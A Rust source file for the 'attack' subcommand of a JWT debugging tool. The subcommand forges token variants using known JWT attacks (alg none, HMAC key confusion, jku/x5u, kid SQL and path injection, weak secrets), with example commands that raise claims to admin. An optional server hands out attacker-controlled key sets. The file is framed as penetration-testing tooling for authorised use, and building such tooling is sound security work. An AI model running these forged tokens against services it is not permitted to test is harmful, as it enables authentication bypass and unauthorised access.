//! `attack`: the known JWT attacks as tokens to try against a service you are allowed to test,
//! and with `--serve`, a small server for the `jku` key set and the `x5u` certificate that logs
//! every request it gets (so you see that the target fetched them).

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::Args;
use serde_json::Value;

use super::input;
use super::out::{self, Out};
use crate::core::attack::{self, AttackOptions, AttackToken};

pub const EXAMPLES: &str = "\
Examples:
  jwt-debugger attack \"$TOKEN\" --set sub=admin --set 'roles=[\"admin\"]' --exp +1d
  jwt-debugger attack \"$TOKEN\" --public-key @server-public.pem --json > tries.jsonl
  jwt-debugger attack \"$TOKEN\" --only jku --only x5u --serve
  jwt-debugger attack \"$TOKEN\" --only weak-secret --secret 'guessed-secret' --set sub=admin

For an authorised test only. Techniques (--only): none, strip, hmac-confusion (needs
--public-key), embedded-jwk, embedded-x5c, jku and x5u (need --jku / --x5u or --serve), kid-path,
kid-sql, psychic, empty-key, weak-secret (needs --secret). Nothing is sent anywhere; --serve only
answers requests (on 127.0.0.1 unless another address is given) and stops after --serve-for.";

#[derive(Debug, Args)]
pub struct AttackArgs {
    /// The token to start from: text, or \"-\" / nothing for stdin.
    pub token: Option<String>,
    /// Change a claim first: NAME=VALUE (VALUE is JSON when it parses, else a string).
    #[arg(long = "set", value_name = "NAME=VALUE")]
    pub set: Vec<String>,
    /// Set exp first: +15m, +1d, Unix seconds or RFC 3339.
    #[arg(long, value_name = "TIME", allow_hyphen_values = true)]
    pub exp: Option<String>,
    /// The server's public key (PEM, JWK, JWKS, certificate, OpenSSH), for HMAC confusion.
    #[arg(long, value_name = "KEY", allow_hyphen_values = true)]
    pub public_key: Vec<String>,
    /// A URL you control for the jku attack.
    #[arg(long, value_name = "URL")]
    pub jku: Option<String>,
    /// A URL you control for the x5u attack.
    #[arg(long, value_name = "URL")]
    pub x5u: Option<String>,
    /// More kid path payloads: a file of PAYLOAD<TAB>KEY lines.
    #[arg(long, value_name = "FILE")]
    pub kid_payloads: Option<std::path::PathBuf>,
    /// A known or guessed HMAC secret (same forms as --key).
    #[arg(long, value_name = "SECRET", allow_hyphen_values = true)]
    pub secret: Option<String>,
    /// Only these techniques (repeat).
    #[arg(long, value_name = "ID")]
    pub only: Vec<String>,
    /// Serve the jku key set and x5u certificate at ADDR:PORT (default 127.0.0.1 and a free
    /// port), logging every request.
    #[arg(long, value_name = "ADDR:PORT", num_args = 0..=1, default_missing_value = "127.0.0.1:0")]
    pub serve: Option<String>,
    /// Stop serving after this many seconds.
    #[arg(long, value_name = "SECS", default_value_t = 600)]
    pub serve_for: u64,
    /// Print JSON Lines: {id, variant, title, reference, token, serve}.
    #[arg(long)]
    pub json: bool,
    #[command(flatten)]
    pub lang: super::LangArg,
}

fn options(args: &AttackArgs, served_base: Option<&str>) -> Result<AttackOptions, String> {
    let now = crate::clock::now_unix();
    let mut o = AttackOptions::default();
    for spec in &args.set {
        let (name, raw) = spec
            .split_once('=')
            .ok_or_else(|| format!("--set {spec}: expected NAME=VALUE"))?;
        let value = crate::core::json::parse(raw)
            .map(|p| p.value)
            .unwrap_or_else(|_| Value::from(raw));
        o.set.push((name.to_owned(), value));
    }
    if let Some(spec) = &args.exp {
        o.exp =
            Some(crate::core::time::parse_time_spec(spec, now).map_err(|e| format!("--exp: {e}"))?);
    }
    for spec in &args.public_key {
        let set = input::key_arg("--public-key", spec)?;
        o.public_keys.extend(set.keys);
    }
    if let Some(path) = &args.kid_payloads {
        let bytes = crate::core::read::read_file_capped(
            path,
            crate::core::read::MAX_KEY_BYTES,
            "kid payloads",
        )
        .map_err(|e| format!("--kid-payloads: {e}"))?;
        for line in String::from_utf8_lossy(&bytes)
            .lines()
            .filter(|l| !l.trim().is_empty())
        {
            let (payload, key) = line.split_once('\t').unwrap_or((line, ""));
            o.kid_payloads
                .push((payload.to_owned(), key.as_bytes().to_vec()));
        }
    }
    if let Some(spec) = &args.secret {
        let set = input::key_arg("--secret", spec)?;
        let bytes = set
            .keys
            .first()
            .and_then(|k| k.secret_bytes())
            .ok_or("--secret: give an HMAC secret")?;
        o.secret = Some(bytes.to_vec());
    }
    o.jku = args
        .jku
        .clone()
        .or_else(|| served_base.map(|b| format!("{b}/jwks.json")));
    o.x5u = args
        .x5u
        .clone()
        .or_else(|| served_base.map(|b| format!("{b}/cert.pem")));
    for id in &args.only {
        if !attack::TECHNIQUES.contains(&id.as_str()) {
            return Err(format!(
                "--only: \"{id}\" is not one of {}",
                attack::TECHNIQUES.join(", ")
            ));
        }
    }
    o.only = args.only.clone();
    Ok(o)
}

pub fn run(args: &AttackArgs) -> ExitCode {
    let token = match input::token_arg(args.token.as_deref()) {
        Ok(t) => t,
        Err(e) => return out::fail(e.to_string()),
    };
    let listener = match &args.serve {
        None => None,
        Some(addr) => match TcpListener::bind(addr) {
            Ok(l) => Some(l),
            Err(e) => return out::fail(format!("--serve {addr}: {e}")),
        },
    };
    let base = listener
        .as_ref()
        .and_then(|l| l.local_addr().ok())
        .map(|a| format!("http://{a}"));
    let options = match options(args, base.as_deref()) {
        Ok(o) => o,
        Err(e) => return out::fail(e),
    };
    let made = match attack::make(token.trim(), &options) {
        Ok(m) => m,
        Err(e) => return out::fail(e.to_string()),
    };
    let mut o = Out::new();
    if args.json {
        for t in &made {
            o.json(&serde_json::to_value(t).unwrap_or_default(), false);
        }
    } else {
        for t in &made {
            o.line(format!("{:<15} {:<28} {}", t.id, t.variant, t.title).as_str());
            o.line(format!("  {}", t.token).as_str());
            if let Some(s) = &t.serve {
                o.line(format!("  serve at {} ({}): {}", s.url, s.content_type, s.body).as_str());
            }
        }
    }
    if let Err(e) = o.finish() {
        return out::fail(e.to_string());
    }
    if let (Some(listener), Some(base)) = (listener, base) {
        out::err(format!(
            "serving the jku key set and x5u certificate at {base} for {} s (Ctrl+C stops)",
            args.serve_for
        ));
        serve(listener, &made, Duration::from_secs(args.serve_for));
    }
    ExitCode::SUCCESS
}

/// Answers GET requests for the documents of `made` by path until `duration` has passed.
fn serve(listener: TcpListener, made: &[AttackToken], duration: Duration) {
    let until = Instant::now() + duration;
    listener.set_nonblocking(true).ok();
    let docs: Vec<(String, &attack::Serve)> = made
        .iter()
        .filter_map(|t| t.serve.as_ref())
        .map(|s| (path_of(&s.url), s))
        .collect();
    while Instant::now() < until {
        let Ok((mut stream, peer)) = listener.accept() else {
            std::thread::sleep(Duration::from_millis(20));
            continue;
        };
        stream.set_nonblocking(false).ok();
        stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
        // A request head is small: read at most 8 KiB of it.
        let mut head = vec![0u8; 8192];
        let n = stream.read(&mut head).unwrap_or(0);
        let head = String::from_utf8_lossy(&head[..n]);
        let line = head.lines().next().unwrap_or_default().to_owned();
        let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
        let found = docs.iter().find(|(p, _)| *p == path);
        let response = match found {
            Some((_, doc)) => format!(
                "HTTP/1.1 200 OK\r\nContent-Type: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
                doc.content_type,
                doc.body.len(),
                doc.body
            ),
            None => "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                .to_owned(),
        };
        stream.write_all(response.as_bytes()).ok();
        out::err(format!(
            "request from {peer}: {} → {}",
            crate::core::text::escape_line(&line),
            if found.is_some() { "200" } else { "404" }
        ));
    }
}

fn path_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    rest.find('/')
        .map_or("/".to_owned(), |i| rest[i..].to_owned())
}
